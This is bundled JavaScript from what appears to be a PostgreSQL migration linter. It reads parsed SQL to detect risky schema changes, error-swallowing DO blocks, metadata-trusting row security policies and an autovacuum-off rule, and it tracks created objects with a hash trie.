	if (expression.kind === "AEXPR_OP" && turned && flipped !== void 0) {
		const name = [{ String: { sval: flipped } }];
		return {
			...expression,
			name,
			lexpr: plain$1(rexpr),
			rexpr: lexpr
		};
	}
	return {
		...expression,
		lexpr: plain$1(lexpr),
		rexpr: plain$1(rexpr)
	};
}
/** Without `+ 0`, `- 0`, `* 1` and `|| ''`. */
function plain$1(node) {
	const expression = nodeAs(node, "A_Expr");
	const left = expression?.lexpr;
	if (expression?.kind !== "AEXPR_OP" || left === void 0) return node;
	const neutral = {
		"+": "0",
		"-": "0",
		"*": "1",
		"||": ""
	};
	const right = constantText(expression.rexpr);
	return right !== void 0 && neutral[operatorOf(expression)] === right ? plain$1(left) : node;
}
/** The values of `IN (…)` and `ANY (ARRAY[…])`. */
function listed$2(expression) {
	if (expression.kind === "AEXPR_IN") return nodeAs(expression.rexpr, "List")?.items ?? [];
	if (expression.kind !== "AEXPR_OP_ANY") return [];
	return nodeAs(expression.rexpr, "A_ArrayExpr")?.elements ?? [];
}
const positions = /* @__PURE__ */ new Set([
	"location",
	"rexpr_list_start",
	"rexpr_list_end",
	"list_start",
	"list_end"
]);
/** The tree as text without positions, and without the target's name before its columns. */
function shapeOf(node, target) {
	return JSON.stringify(node, (key, value) => {
		if (positions.has(key)) return void 0;
		return key === "fields" ? ownFields(value, target) : value;
	});
}
function ownFields(fields, target) {
	if (!Array.isArray(fields) || fields.length < 2) return fields;
	const names = nodesAs(fields.filter(isNode), "String").map(({ sval }) => sval);
	return names.at(-2) === target && fields.length === names.length ? fields.slice(-1) : fields;
}
function isNode(value) {
	return isObject(value) && hasTag(value, "String");
}
/** A table as it is written. */
function toTableName(relation) {
	const name = relation?.relname ?? "";
	return relation?.schemaname === void 0 ? { name } : {
		schema: relation.schemaname,
		name
	};
}
/** What the code of a statement is like, where the statement as a whole tells. */
function codeTraits({ node, isOwn, isCondition }, { tags, calls }) {
	const mayDepend = isCondition || changesRows(node);
	const asks = tags.has("SQLValueFunction") || tags.has("FuncCall");
	return [
		...mayDepend && asks ? environmentOf(node, isCondition) : [],
		...swallowed(node),
		...lockedRows(node),
		...isOwn && tags.has("ParamRef") ? parametersOf(node) : [],
		...calls.has("nextval") && burnsSequence(node) ? [{ kind: "burns-sequence" }] : []
	];
}
/** Name of the function that a node calls, without its schema; empty where it calls none. */
function calledName(node) {
	return namesOf(nodeAs(node, "FuncCall")?.funcname).at(-1) ?? "";
}
function changesRows(node) {
	return hasTag(node, "UpdateStmt") || hasTag(node, "DeleteStmt") || hasTag(node, "InsertStmt") || hasTag(node, "MergeStmt");
}
/** What a rehearsal on another server, or at another time, answers differently. */
const places = /* @__PURE__ */ new Set([
	"current_database",
	"inet_server_addr",
	"inet_server_port",
	"inet_client_addr",
	"pg_postmaster_start_time",
	"pg_conf_load_time",
	"pg_is_in_recovery",
	"pg_read_file",
	"version"
]);
const moments = /* @__PURE__ */ new Set([
	"now",
	"clock_timestamp",
	"statement_timestamp",
	"random",
	"timeofday"
]);
const settings$2 = /^(?:cluster_name|port|data_directory|listen_addresses|server_version\w*|config_file)$/;
function environmentOf(node, isCondition) {
	const found = /* @__PURE__ */ new Set();
	someNode(node, (inner) => {
		const direct = isCondition ? placeIn(inner) : void 0;
		if (direct !== void 0) found.add(direct);
		if (isComparison(inner)) someNode(inner, (deeper) => {
			const what = placeIn(deeper) ?? (isCondition ? momentIn(deeper) : void 0);
			if (what !== void 0) found.add(what);
			return false;
		});
		return false;
	});
	return [...found].map((what) => ({
		kind: "environment",
		what
	}));
}
function isComparison(node) {
	const expression = nodeAs(node, "A_Expr");
	return expression !== void 0 && !/^(?:[-+*/%|]|\|\|)$/.test(operatorOf(expression));
}
function placeIn(node) {
	if (nodeAs(node, "SQLValueFunction")?.op === "SVFOP_CURRENT_CATALOG") return "current_catalog";
	const call = nodeAs(node, "FuncCall");
	const name = calledName(node);
	return name === "current_setting" ? serverSetting(call?.args?.[0]) : only(places, name);
}
function serverSetting(argument) {
	const name = constantText(argument) ?? "";
	return settings$2.test(name) ? name : void 0;
}
function only(known, name) {
	return known.has(name) ? name : void 0;
}
function momentIn(node) {
	return only(moments, calledName(node));
}
/** A handler of every error that raises none itself. */
const handler = /\bwhen\s+(?:\w+\s+or\s+)*others\b.*?\bthen\b(.*?)\bend\b/gs;
const raises = /\braise\b(?!\s+(?:notice|warning|info|log|debug)\b)/;
function swallowed(node) {
	const code = constantText(optionNamed(nodeAs(node, "DoStmt")?.args, "as")?.arg);
	if (code === void 0 || !/others/i.test(code)) return [];
	return [...wordsOf$3(code).matchAll(handler)].some(([, body = ""]) => !raises.test(body)) ? [{ kind: "swallows-errors" }] : [];
}
function wordsOf$3(code) {
	return [...tokensOf(code)].filter(({ kind }) => kind !== "comment" && kind !== "quoted").map(({ start, end }) => code.slice(start, end).toLowerCase()).join("");
}
function lockedRows(node) {
	const select = nodeAs(node, "SelectStmt");
	if ((select?.lockingClause ?? []).length === 0) return [];
	if (select?.whereClause !== void 0 || select?.limitCount !== void 0) return [];
	return nodesAs(select?.fromClause, "RangeVar").map((table) => ({
		kind: "locks-rows",
		table: toTableName(table)
	}));
}
function parametersOf(node) {
	if (hasTag(node, "PrepareStmt") || hasTag(node, "CreateFunctionStmt")) return [];
	const found = /* @__PURE__ */ new Set();
	someNode(node, (inner) => {
		if (hasTag(inner, "ParamRef")) found.add(inner.ParamRef.number ?? 0);
		return false;
	});
	return [...found].map((number) => ({
		kind: "parameter",
		number
	}));
}
function burnsSequence(node) {
	const select = nodeAs(node, "SelectStmt");
	if (select !== void 0) return (select.fromClause ?? []).length > 0 && drawsValue(node);
	return drawsValue((nodeAs(node, "UpdateStmt") ?? nodeAs(node, "DeleteStmt"))?.whereClause);
}
function drawsValue(node) {
	return someNode(node, (inner) => calledName(inner) === "nextval");
}
/** What the node under `key` is like, wherever it stands. */
function schemaTraits(key, node) {
	return Object.hasOwn(readers, key) ? readers[key]?.(node) ?? [] : [];
}
const readers = {
	ViewStmt: (node) => viewOf(nodeAs(node, "ViewStmt")),
	CreatePolicyStmt: (node) => policyOf(nodeAs(node, "CreatePolicyStmt")),
	AlterPolicyStmt: (node) => alteredPolicy(nodeAs(node, "AlterPolicyStmt")),
	CreateTableAsStmt: (node) => {
		const { into, query } = nodeAs(node, "CreateTableAsStmt") ?? {};
		return into?.skipData === true ? [] : copyOf(into?.rel, nodeAs(query, "SelectStmt"));
	},
	SelectStmt: (node) => {
		const select = nodeAs(node, "SelectStmt");
		return select?.intoClause === void 0 ? [] : copyOf(select.intoClause.rel, select);
	},
	AlterTableStmt: (node) => {
		const statement = nodeAs(node, "AlterTableStmt");
		const of = {
			kind: statement?.objtype === "OBJECT_VIEW" ? "view" : "table",
			...toTableName(statement?.relation)
		};
		return nodesAs(statement?.cmds, "AlterTableCmd").flatMap((command) => altered$1(command, of));
	},
	CreateStmt: (node) => {
		const statement = nodeAs(node, "CreateStmt");
		const table = toTableName(statement?.relation);
		const unlogged = statement?.relation?.relpersistence === "u";
		return [
			...nodesAs(statement?.tableElts, "Constraint").flatMap((one) => constrained(one, table)),
			...nodesAs(statement?.tableElts, "ColumnDef").flatMap((column) => nodesAs(column.constraints, "Constraint").flatMap((one) => constrained(one, table, column.colname))),
			...unlogged ? [{
				kind: "unlogged",
				table
			}] : []
		];
	},
	IndexStmt: (node) => {
		const { relation, indexParams } = nodeAs(node, "IndexStmt") ?? {};
		const columns = nodesAs(indexParams, "IndexElem").map(({ name }) => name ?? "");
		return [{
			kind: "indexes",
			table: toTableName(relation),
			columns
		}];
	},
	AlterFunctionStmt: (node) => {
		const { func, actions } = nodeAs(node, "AlterFunctionStmt") ?? {};
		const name = namesOf(func?.objname).join(".");
		return nodesAs(actions, "DefElem").flatMap(promised).map((option) => ({
			kind: "function-option",
			name,
			option
		}));
	},
	AlterDomainStmt: (node) => {
		const { typeName, subtype, def } = nodeAs(node, "AlterDomainStmt") ?? {};
		const unchecked = nodeAs(def, "Constraint")?.skip_validation === true;
		if (subtype !== "C" && subtype !== "O" || unchecked) return [];
		return [{
			kind: "domain-check",
			domain: namesOf(typeName).join(".")
		}];
	},
	AlterSeqStmt: (node) => {
		const { sequence, options } = nodeAs(node, "AlterSeqStmt") ?? {};
		return nodesAs(options, "DefElem").filter(countsOtherwise).map(({ defname = "" }) => ({
			kind: "sequence-option",
			sequence: toTableName(sequence),
			option: defname
		}));
	},
	CreatePublicationStmt: (node) => {
		const { pubname, pubobjects, for_all_tables } = nodeAs(node, "CreatePublicationStmt") ?? {};
		return published(pubname, pubobjects, for_all_tables === true);
	},
	AlterPublicationStmt: (node) => {
		const { pubname, pubobjects, action } = nodeAs(node, "AlterPublicationStmt") ?? {};
		return action === "AP_DropObjects" ? [] : published(pubname, pubobjects, false);
	},
	UpdateStmt: (node) => {
		const { relation, targetList } = nodeAs(node, "UpdateStmt") ?? {};
		return [{
			kind: "assigns",
			table: toTableName(relation),
			columns: targets(targetList)
		}];
	}
};
function targets(list) {
	return nodesAs(list, "ResTarget").map(({ name }) => name ?? "");
}
function viewOf(statement) {
	return [{
		kind: "view",
		view: toTableName(statement?.view),
		reads: tablesIn(statement?.query),
		invoker: isInvoker(statement?.options)
	}];
}
function tablesIn(node) {
	const found = [];
	someNode(node, (inner) => {
		const table = nodeAs(inner, "RangeVar");
		if (table !== void 0) found.push(toTableName(table));
		return false;
	});
	return found;
}
/** What a user of the usual login services can write about themselves. */
const metadata = /^(?:raw_)?user_meta_?data$/;
function trustsMetadata(node) {
	return someNode(node, (inner) => {
		const text = hasTag(inner, "A_Const") ? constantText(inner) : void 0;
		const columns = namesOf(nodeAs(inner, "ColumnRef")?.fields);
		return [text ?? "", ...columns].some((word) => metadata.test(word));
	});
}
function policyOf(statement) {
	return [{
		kind: "policy",
		table: toTableName(statement?.table),
		policy: statement?.policy_name ?? "",
		permissive: statement?.permissive === true,
		command: statement?.cmd_name ?? "all",
		metadata: trustsMetadata(statement?.qual) || trustsMetadata(statement?.with_check)
	}];
}
function alteredPolicy(statement) {
	if (!trustsMetadata(statement?.qual) && !trustsMetadata(statement?.with_check)) return [];
	return [{
		kind: "policy",
		table: toTableName(statement?.table),
		policy: statement?.policy_name ?? "",
		permissive: false,
		command: "all",
		metadata: true
	}];
}
function copyOf(into, select) {
	const columns = nodesAs(select?.targetList, "ResTarget").flatMap(({ val }) => namesOf(nodeAs(val, "ColumnRef")?.fields).slice(-1));
	const everything = nodesAs(select?.targetList, "ResTarget").some(({ val }) => (nodeAs(val, "ColumnRef")?.fields ?? []).some((field) => hasTag(field, "A_Star")));
	const from = tablesIn(select === void 0 ? void 0 : { fromClause: select.fromClause });
	return [{
		kind: "copies",
		into: toTableName(into),
		from,
		columns,
		everything
	}];
}
function altered$1(command, of) {
	const { kind: _kind, ...table } = of;
	switch (command.subtype) {
		case "AT_SetRelOptions":
		case "AT_ResetRelOptions": {
			const resets = command.subtype === "AT_ResetRelOptions";
			return nodesAs(nodeAs(command.def, "List")?.items, "DefElem").map(({ defname, arg }) => ({
				kind: "option",
				of,
				option: (defname ?? "").toLowerCase(),
				...resets ? {} : { value: wordOf(arg) }
			}));
		}
		case "AT_AddConstraint": {
			const constraint = nodeAs(command.def, "Constraint");
			return constraint === void 0 ? [] : constrained(constraint, table);
		}
		case "AT_AddColumn": {
			const column = nodeAs(command.def, "ColumnDef");
			return nodesAs(column?.constraints, "Constraint").flatMap((one) => constrained(one, table, column?.colname));
		}
		default: return [];
	}
}
function constrained(constraint, table, column) {
	switch (constraint.contype) {
		case "CONSTR_CHECK": return constraint.raw_expr !== void 0 && isVolatile(constraint.raw_expr) ? [{
			kind: "volatile-check",
			table
		}] : [];
		case "CONSTR_FOREIGN": return [{
			kind: "references",
			table,
			columns: named(constraint.fk_attrs, column)
		}];
		case "CONSTR_PRIMARY":
		case "CONSTR_UNIQUE": return [{
			kind: "indexes",
			table,
			columns: named(constraint.keys, column)
		}];
		default: return [];
	}
}
function named(nodes, column) {
	return column === void 0 ? namesOf(nodes) : [column];
}
function isInvoker(options) {
	const option = optionNamed(options, "security_invoker");
	return option !== void 0 && ![
		"false",
		"off",
		"0",
		"no",
		"f"
	].includes(wordOf(option.arg));
}
/** A bare word is a type name to the grammar; an option without a value is on. */
function wordOf(argument) {
	const word = namesOf(nodeAs(argument, "TypeName")?.names).at(-1);
	return (constantText(argument) ?? word ?? "true").toLowerCase();
}
/** What PostgreSQL takes a function's word for. */
function promised({ defname, arg }) {
	if (defname === "volatility") return [constantText(arg) ?? defname];
	if (defname === "support") return ["supported by another function"];
	if (defname === "leakproof") return [constantText(arg) === "false" ? "not leakproof" : defname];
	return [];
}
/** Options that let a sequence repeat its values or run out of them. */
function countsOtherwise({ defname, arg }) {
	if (defname === "cycle") return constantText(arg) !== "false";
	return [
		"increment",
		"maxvalue",
		"minvalue",
		"as"
	].includes(defname ?? "");
}
function published(publication = "", objects, forAll) {
	const specs = nodesAs(objects, "PublicationObjSpec");
	return [{
		kind: "publishes",
		publication,
		tables: specs.flatMap(({ pubtable }) => pubtable?.relation === void 0 ? [] : [toTableName(pubtable.relation)]),
		everything: forAll || specs.some(({ pubtable }) => pubtable === void 0)
	}];
}
/** The traits of one kind, in the statements of all scripts and in the code that DO runs. */
function traitsOf(scripts, kind) {
	return scripts.flatMap((script) => known$1(script).filter((one) => isOfKind$1(one, kind)));
}
function isOfKind$1(trait, kind) {
	return trait.kind === kind;
}
/** Many rules ask about the same script. */
const cache = /* @__PURE__ */ new WeakMap();
function known$1(script) {
	const found = cache.get(script) ?? read(script);
	cache.set(script, found);
	return found;
}
function read({ unitId, statements }) {
	return statements.flatMap((statement, index) => statement.kind === "unparsed" ? [] : rootsOf(statement).flatMap(traitsWithin).map((trait) => ({
		...trait,
		unitId,
		statement: index,
		source: "static"
	})));
}
function rootsOf({ node, bodies }) {
	const own = {
		node,
		isOwn: true,
		isCondition: false
	};
	if (!hasTag(node, "DoStmt")) return [own];
	return [own, ...bodies.flatMap((body) => body.kind === "read" ? body.parts : []).flatMap(rootsOfPart)];
}
function rootsOfPart(part) {
	switch (part.kind) {
		case "statement":
		case "expression": return [{
			node: part.node,
			isOwn: false,
			isCondition: part.kind === "expression"
		}];
		case "dynamic": return (part.folded ?? []).flatMap(rootsOfPart);
		default: return [];
	}
}
function traitsWithin(root) {
	const found = [];
	const tags = /* @__PURE__ */ new Set();
	const calls = /* @__PURE__ */ new Set();
	const pending = [root.node];
	for (let here = pending.pop(); here !== void 0; here = pending.pop()) for (const [key, child] of childrenOf(here)) {
		tags.add(key);
		if (key === "FuncCall") calls.add(calledName(here));
		found.push(...schemaTraits(key, here));
		pending.push(child);
	}
	return [...codeTraits(root, {
		tags,
		calls
	}), ...found];
}
const off$1 = /* @__PURE__ */ new Set([
	"false",
	"off",
	"0",
	"no",
	"f"
]);
const autovacuumOff = defineRule({
	id: "autovacuum-off",
	axis: "lock",
	title: "A table is no longer cleaned up",
	why: "Dead rows pile up and estimates go stale, until a forced cleanup comes when it suits nobody.",
	instead: "Tune autovacuum for the table: its scale factors and its cost limit.",
	invalid: [{
		sql: "alter table users set (autovacuum_enabled = off)",
		level: "medium",
		message: "Switches autovacuum off for table users."
	}],
	valid: ["alter table users set (autovacuum_vacuum_scale_factor = 0.05)"],
	check: ({ effects, scripts }) => {
		const created = createdTables(effects);
		return traitsOf(scripts, "option").filter(({ option, value }) => option === "autovacuum_enabled" && off$1.has(value ?? "")).filter(({ of }) => !created.has(tableOf$1(of))).map((effect) => ({
			effect,
			level: "medium",
			message: `Switches autovacuum off for table ${writtenTable(effect.of)}.`
		}));
	}
});
/** What a statement says, without its blanks and comments. */
function wordsOf$2(text) {
	const words = [];
	let depth = 0;
	for (const { kind, start, end } of tokensOf(text)) {
		if (kind === "space" || kind === "comment") continue;
		const said = text.slice(start, end);
		if (closing.has(said)) depth -= 1;
		const last = words.at(-1);
		if (last !== void 0 && isSameName(last, said, start)) {
			words[words.length - 1] = {
				...last,
				text: last.text + said,
				end
			};
			continue;
		}
		words.push({
			text: kind === "word" ? said.toLowerCase() : said,
			start,
			end,
			depth
		});
		if (opening.has(said)) depth += 1;
	}
	return words;
}
const opening = /* @__PURE__ */ new Set(["(", "["]);
const closing = /* @__PURE__ */ new Set([")", "]"]);
/** A doubled quote divides a name into two tokens. */
function isSameName(last, said, start) {
	return last.end === start && said.startsWith("\"") && last.text.endsWith("\"");
}
/** The author's own text from the first of these words to the last; a comment after it is left out. */
function written(text, words) {
	const [first] = words;
	const last = words.at(-1);
	return first === void 0 || last === void 0 ? "" : text.slice(first.start, last.end);
}
/** The words between commas that stand in no bracket. */
function commaParts(words) {
	const commas = words.flatMap(({ text, depth }, index) => text === "," && depth === 0 ? [index] : []);
	return [...commas, words.length].map((end, index) => words.slice((commas[index - 1] ?? -1) + 1, end));
}
/** How many words a qualified name takes that begins at `at`. */
function nameLength(words, at) {
	let length = 1;
	while (words[at + length]?.text === ".") length += 2;
	return length;
}
const empty = {
	kind: "leaf",
	entries: /* @__PURE__ */ new Map()
};
const bitsOfLevel = 4;
const deepest$1 = 6;
const largestLeaf = 16;
function emptyTrie() {
	return empty;
}
function trieHas(trie, key) {
	return leafOf(trie, key).has(key);
}
function trieGet(trie, key) {
	return leafOf(trie, key).get(key);
}
function leafOf(trie, key) {
	let here = trie;
	for (let depth = 0; here.kind === "branch"; depth += 1) here = here.children[branchOf(key, depth)] ?? empty;
	return here.entries;
}
function trieWith(trie, [key, value], depth = 0) {
	if (trie.kind === "branch") {
		const at = branchOf(key, depth);
		const child = trieWith(trie.children[at] ?? empty, [key, value], depth + 1);
		return {
			kind: "branch",
			children: trie.children.with(at, child)
		};
	}
	const entries = new Map(trie.entries).set(key, value);
	if (entries.size <= largestLeaf || depth === deepest$1) return {
		kind: "leaf",
		entries
	};
	return divided(entries, depth);
}
function trieWithout(trie, key, depth = 0) {
	if (!trieHas(trie, key) && depth === 0) return trie;
	if (trie.kind === "leaf") {
		const kept = [...trie.entries].filter(([other]) => other !== key);
		return {
			kind: "leaf",
			entries: new Map(kept)
		};
	}
	const at = branchOf(key, depth);
	const child = trieWithout(trie.children[at] ?? empty, key, depth + 1);
	return {
		kind: "branch",
		children: trie.children.with(at, child)
	};
}
function divided(entries, depth) {
	const children = Array.from({ length: 2 ** bitsOfLevel }, () => /* @__PURE__ */ new Map());
	for (const [key, value] of entries) children[branchOf(key, depth)]?.set(key, value);
	return {
		kind: "branch",
		children: children.map((one) => ({
			kind: "leaf",
			entries: one
		}))
	};
}
/** Which way a key takes at this depth: some bits of its FNV-1a hash. */
function branchOf(key, depth) {
	let hash = 2166136261;
	for (let index = 0; index < key.length; index += 1) hash = Math.imul(hash ^ key.charCodeAt(index), 16777619);
	return hash >>> depth * bitsOfLevel & 2 ** bitsOfLevel - 1;
}
/** The names of one family: ALTER TABLE may name a view, too. */
function relatedKeys(object) {
	const related = [
		"relation",
		"view",
		"foreign-table"
	];
	return related.includes(spaceOf(object.kind)) ? related.map((space) => spaceKey(space, object)) : [];
}
function unqualified({ kind, name, part, signature }) {
	return {
		kind,
		name,
		...part === void 0 ? {} : { part },
		...signature === void 0 ? {} : { signature }
	};
}
function isUnqualified({ kind, schema }) {
	return schema === void 0 && kind !== "schema";
}
function isFoundInTemporary(kind) {
	return [
		"relation",
		"view",
		"type",
		"foreign-table"
	].includes(spaceOf(kind));
}
/** It goes along with its table. A qualified one leaves no other behind under its name; a part does. */
function isFragile({ kind, schema, part }) {
	if (part !== void 0 || kind === "index") return true;
	return schema === void 0 && ["sequence", "statistics"].includes(kind);
}
/**
* Tables, indexes and sequences share one name space, and so do types and domains. Views and foreign
* tables stand apart: a write to one that was created here reaches somebody else's rows.
*/
const nameSpaces = {
	table: "relation",
	column: "relation",
	constraint: "relation",
	trigger: "relation",
	rule: "relation",
	policy: "relation",
	index: "relation",
	view: "view",
	"materialized-view": "relation",
	sequence: "relation",
	"foreign-table": "foreign-table",
	schema: "schema",
	type: "type",
	domain: "type",
	statistics: "statistics",
	collation: "collation",
	conversion: "conversion"
};
/** What has overloads. */
const routines = /* @__PURE__ */ new Set([
	"function",
	"procedure",
	"aggregate",
	"operator"
]);
/** Whether rows of a table may stand behind the kind. */
function isRelationKind(kind) {
	return kind !== "index" && (nameSpaces[kind] === "relation" || kind === "foreign-table");
}
function spaceOf(kind) {
	return nameSpaces[kind] ?? kind;
}
function keyOf$2(object) {
	return spaceKey(spaceOf(object.kind), object);
}
function spaceKey(space, { schema, name }) {
	return JSON.stringify([
		space,
		schema ?? null,
		name
	]);
}
/** Undefined for what is not followed. */
function ownKey(object) {
	const { kind, schema, name, part, signature } = object;
	if (part !== void 0) return [
		"trigger",
		"rule",
		"policy"
	].includes(kind) ? JSON.stringify([
		kind,
		schema ?? null,
		name,
		part
	]) : void 0;
	if (routines.has(kind)) return routineKey(object, signature ?? null);
	return nameSpaces[kind] === void 0 ? void 0 : keyOf$2(object);
}
function routineKey({ kind, schema, name }, signature) {
	return JSON.stringify([
		kind === "operator" ? kind : "routine",
		schema ?? null,
		name,
		signature
	]);
}
const nothingCreated = {
	objects: emptyTrie(),
	pathEra: 0,
	dropEra: 0,
	sessionEra: 0,
	nameEra: 0,
	taken: emptyTrie(),
	unknownPath: false,
	pathMoved: false,
	functionPath: false
};
/** Whether the change created the object, or the relation that it is a part of. */
function isCreated(created, object) {
	return found(created, object, keyOf$2(object)) !== void 0;
}
/** Whether the change created this very trigger, rule, policy or routine. */
function isCreatedItself(created, object) {
	const key = ownKey(object);
	const entry = key === void 0 ? void 0 : found(created, object, key);
	return entry !== void 0 && (object.signature !== void 0 || entry.kind === object.kind);
}
/** The columns of a table that the change created. */
function createdColumns(created, table) {
	return found(created, table, keyOf$2(table))?.columns;
}
function found(created, object, key) {
	if (created.unknownPath && isUnqualified(object)) return void 0;
	const entry = entryAt(created, key);
	if (entry === void 0 || (entry.pathEra ?? created.pathEra) !== created.pathEra) return void 0;
	return (entry.dropEra ?? created.dropEra) === created.dropEra ? entry : void 0;
}
/** What was noted under a key, if it is there and nobody else took its name. */
function entryAt(created, key) {
	const entry = trieGet(created.objects, key);
	if (entry === void 0 || (trieGet(created.taken, entry.name) ?? 0) > entry.nameEra) return void 0;
	return (entry.sessionEra ?? created.sessionEra) === created.sessionEra ? entry : void 0;
}
/** Nothing is certain any more; the path is what it was. */
function forgetCreated(created) {
	return {
		...created,
		objects: emptyTrie()
	};
}
/** Unqualified names may mean something else from here on. */
function forgetUnqualified(created) {
	return {
		...created,
		pathEra: created.pathEra + 1
	};
}
/** What goes along with tables may be gone. */
function forgetParts(created) {
	return {
		...created,
		dropEra: created.dropEra + 1
	};
}
/** Temporary tables are gone, and with them their indexes. */
function forgetTemporary(created) {
	return forgetParts({
		...created,
		sessionEra: created.sessionEra + 1
	});
}
/** The table is known, but no longer its columns. */
function forgetColumns(created, table) {
	const key = keyOf$2(table);
	const known = entryAt(created, key);
	if (known?.columns === void 0) return created;
	const { columns: _, ...rest } = known;
	return {
		...created,
		objects: trieWith(created.objects, [key, rest])
	};
}
/** Notes a new object; forgets what stood under its name where it may not be new. */
function afterCreate(created, effect) {
	const { object, columns } = effect;
	const key = ownKey(object);
	if (key === void 0 || object.name === "") return created;
	if (!object.createdHere || effect.via !== "direct") return effect.via === "direct" && found(created, object, key) !== void 0 ? created : without$1(created, object);
	const { name, kind, schema } = object;
	const temporary = schema === "pg_temp";
	const noted = note(created, object, {
		name,
		kind,
		temporary,
		columns
	});
	if (!temporary || !isFoundInTemporary(kind)) return noted;
	return note(forgetParts(noted), unqualified(object), {
		name,
		kind,
		temporary,
		columns
	});
}
function note(created, object, entry) {
	const era = {
		nameEra: created.nameEra,
		...entry.temporary ? { sessionEra: created.sessionEra } : {},
		...isUnqualified(object) ? { pathEra: created.pathEra } : {},
		...isFragile(object) ? { dropEra: created.dropEra } : {}
	};
	const objects = [ownKey(object), namelessKey(created, object)].flatMap((key) => key ?? []).reduce((trie, key) => trieWith(trie, [key, {
		...entry,
		...era
	}]), created.objects);
	return {
		...created,
		objects
	};
}
/** One function of a name may be dropped by its name alone; of two of them neither. */
function namelessKey(created, object) {
	if (object.signature === void 0 || object.kind === "operator") return void 0;
	const key = routineKey(object, null);
	return entryAt(created, key) === void 0 ? key : void 0;
}
/** Another name or schema: the same object when it is known; else a stranger has the name now. */
function afterMove(created, { object, change, via }, to) {
	const target = change === "rename" ? {
		...object,
		name: to
	} : {
		...object,
		schema: to
	};
	const known = via === "direct" ? found(created, object, keyOf$2(object)) : void 0;
	const source = forgetParts(without$1(created, object));
	if (known === void 0) return without$1(takenByStranger(source, target.name), {
		kind: "schema",
		name: to
	});
	const { kind, temporary, columns } = known;
	return note(source, target, {
		name: target.name,
		kind,
		temporary,
		columns
	});
}
function takenByStranger(created, name) {
	const nameEra = created.nameEra + 1;
	return {
		...created,
		nameEra,
		taken: trieWith(created.taken, [name, nameEra])
	};
}
/** From then on it goes along with another table. */
function partOf$1(created, table) {
	const key = keyOf$2(table);
	const entry = entryAt(created, key);
	if (entry === void 0 || table.schema !== void 0) return created;
	const fragile = {
		...entry,
		dropEra: created.dropEra
	};
	return {
		...created,
		objects: trieWith(created.objects, [key, fragile])
	};
}
/** It is gone, and so is what may have been meant by its bare name. */
function without$1(created, object) {
	const bare = unqualified(object);
	const objects = (object.schema === void 0 ? [object] : [object, bare]).flatMap((name) => [
		ownKey(name) ?? keyOf$2(name),
		...routines.has(object.kind) ? [routineKey(name, null)] : [],
		...object.part === void 0 ? relatedKeys(name) : []
	]).reduce((trie, key) => trieWithout(trie, key), created.objects);
	return {
		...created,
		objects
	};
}
/** What is known to be new after an effect that moves no transaction. */
function createdAfter(created, effect) {
	switch (effect.kind) {
		case "creates": return afterCreate(created, effect);
		case "drops": return afterDrop(created, effect);
		case "alters": return afterAlter(created, effect);
		case "sets": return afterSetting(created, effect);
		case "grants":
		case "revokes": return opensSchema(effect) ? forgetUnqualified(created) : created;
		default: return created;
	}
}
/** Whether somebody may look into more or fewer schemas of a path than before. */
function opensSchema({ object, privileges }) {
	if (object !== void 0) return object.kind === "schema" && !object.createdHere;
	return !privileges.every((privilege) => tablePrivileges.has(privilege));
}
const tablePrivileges = /* @__PURE__ */ new Set([
	"all",
	"select",
	"insert",
	"update",
	"delete",
	"truncate",
	"references",
	"trigger",
	"maintain",
	"usage",
	"execute"
]);
/** Without CASCADE these take nothing else along. */
const alone$1 = /* @__PURE__ */ new Set([
	"index",
	"sequence",
	"view",
	"function",
	"procedure",
	"aggregate",
	"operator",
	"trigger",
	"rule",
	"policy",
	"domain"
]);
function afterDrop(created, { object, cascade }) {
	const rest = object.kind === "column" ? forgetColumns(created, object) : without$1(created, object);
	if (cascade || [
		"schema",
		"extension",
		"owned-objects"
	].includes(object.kind)) return forgetParts(forgetUnqualified(rest));
	return alone$1.has(object.kind) ? rest : forgetParts(rest);
}
/** From then on what happens to the new table, or to one above it, happens to something else, too. */
const adopts = /* @__PURE__ */ new Set([
	"adopts",
	"inherited-by",
	"cascades-to",
	"owns-sequence"
]);
function afterAlter(created, effect) {
	const { object, change, to } = effect;
	if (adopts.has(change)) return afterAdopting(created, object);
	if (change === "referenced-by") return without$1(created, object);
	if (change === "part-of") return partOf$1(created, object);
	if (change === "role-attributes" || object.kind === "owned-objects") return forgetUnqualified(created);
	if (object.part !== void 0) return afterPart(created, effect);
	if (to === void 0 || change !== "rename" && change !== "set-schema") return created;
	return afterMove(created, effect, to);
}
/** An index joins one of a table above its own, and no table of its own accord. */
function afterAdopting(created, { kind }) {
	return kind === "index" ? forgetParts(created) : forgetCreated(created);
}
function afterPart(created, { object, change }) {
	const rest = forgetColumns(created, object);
	return change === "rename" ? forgetParts(rest) : rest;
}
function afterSetting(created, effect) {
	if (!movesNames(effect.setting)) return created;
	if (effect.scope === "function") return {
		...created,
		functionPath: true
	};
	const unknownPath = created.unknownPath || !isPlainPath(effect);
	const moved = {
		...created,
		pathMoved: true,
		unknownPath
	};
	return effect.scope === "role" || effect.scope === "database" ? moved : forgetUnqualified(moved);
}
/** A path that says where temporary and built-in objects stand puts others before them. */
function isPlainPath({ setting, value }) {
	if (setting.toLowerCase() !== "search_path" || value === void 0) return false;
	return value !== "?" && !value.split(",").some((name) => isReserved(name.trim()));
}
/** Whether a path names what otherwise comes first by itself, or cannot be read. */
function isReserved(schema) {
	return /^"?pg_|[?"]|current value$/.test(schema);
}
/** Its columns in order; undefined where the change may have altered them. */
function columnsOf$2(relation) {
	return relation.changed ? void 0 : relation.facts.columns.map(({ name }) => name);
}
/** Whether no row can have NULL there. */
function isNotNull({ facts, changed }, column) {
	if (changed) return false;
	return facts.keys.some(({ kind, columns }) => kind === "primary" && columns.includes(column)) || facts.columns.some(({ name, notNull }) => name === column && notNull);
}
/** Whether values for these columns name one row at most. */
function bindsKey(relation, columns) {
	return uniqueColumns(relation).some((key) => key.every((column) => columns.includes(column)));
}
/** The column sets that are unique for all rows. */
function uniqueColumns({ facts, changed }) {
	if (changed) return [];
	const keys = facts.keys.filter(({ kind }) => kind !== "exclusion").map(({ columns }) => columns);
	const indexes = facts.indexes.filter(({ unique, valid, partial }) => unique && valid && !partial);
	return [...keys, ...indexes.flatMap(({ columns }) => columns === void 0 ? [] : [columns])].filter((columns) => columns.length > 0);
}
/** The columns of its primary key; none where there is none or it may have changed. */
function primaryKeyOf({ facts, changed }) {
	if (changed) return [];
	return facts.keys.find(({ kind }) => kind === "primary")?.columns ?? [];
}
/** How big it is, where it holds rows of its own or of its partitions and the change gave it no others. */
function sizeOf({ facts, entangled }) {
	const { kind, rows, bytes } = facts;
	return entangled || kind === "view" || kind === "sequence" ? void 0 : {
		rows,
		bytes
	};
}
